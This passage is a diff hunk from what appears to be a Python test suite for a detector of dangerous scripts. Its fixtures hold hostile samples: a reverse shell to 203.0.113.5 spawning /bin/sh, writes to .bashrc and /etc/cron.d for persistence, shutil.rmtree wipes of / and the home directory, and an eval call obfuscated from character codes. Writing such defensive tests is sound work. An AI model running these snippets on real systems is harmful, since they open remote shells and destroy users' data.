@@ -209,7 +209,7 @@ def test_an_ordinary_command_is_not(script: str) -> None:
             "import os, pty, socket\ns = socket.socket()\ns.connect(('203.0.113.5', 1))\n"
             "os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
         ),
-        ("made-permanent", "open('/home/me/.bashrc', 'a').write('x')\n"),
+        ("made-permanent", "open('/etc/cron.d/me', 'a').write('x')\n"),
         ("wiped", "import shutil\nshutil.rmtree('/')\n"),
         ("wiped", "import os, shutil\nshutil.rmtree(os.path.expanduser('~'))\n"),
         ("name-in-pieces", "import builtins\nrun = getattr(builtins, ''.join(map(chr, [101, 118, 97, 108])))\n"),
